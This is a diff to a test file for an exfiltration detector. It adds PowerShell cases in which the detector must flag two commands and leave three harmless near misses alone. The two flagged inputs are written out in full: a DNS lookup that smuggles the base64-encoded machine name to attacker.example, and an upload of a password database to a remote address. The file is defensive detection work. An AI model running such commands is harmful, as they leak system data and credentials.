@@ -401,3 +401,21 @@ describe("data_exfiltration: curl with a request body from a file", () => {
     expect(rules(text)).toEqual([]);
   });
 });
+
+// warden-detect/1.6.2, from an exfiltration probe set: PowerShell's DNS lookups and uploads.
+describe("data_exfiltration: PowerShell", () => {
+  it.each([
+    ["a DNS name carrying base64 of machine data", `Resolve-DnsName -Name ("{0}.d.attacker.example" -f [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($env:COMPUTERNAME))) -Type TXT`, "data_exfiltration.dns.powershell_encoded_name"],
+    ["a password database uploaded", `(New-Object Net.WebClient).UploadFile('http://10.10.14.3/upload', 'C:\\Users\\admin\\Documents\\passwords.kdbx')`, "data_exfiltration.http.send_sensitive"],
+  ])("%s", (_name, text, rule) => {
+    expect(rules(text)).toContain(rule);
+  });
+
+  it.each([
+    ["an ordinary lookup", "Resolve-DnsName -Name www.example.com -Type A"],
+    ["the machine's own name in the corporate domain", `Resolve-DnsName -Name "$env:COMPUTERNAME.corp.example.com"`],
+    ["opening a password database", "keepassxc-cli open ~/vault.kdbx"],
+  ])("near miss: %s", (_name, text) => {
+    expect(rules(text)).toEqual([]);
+  });
+});
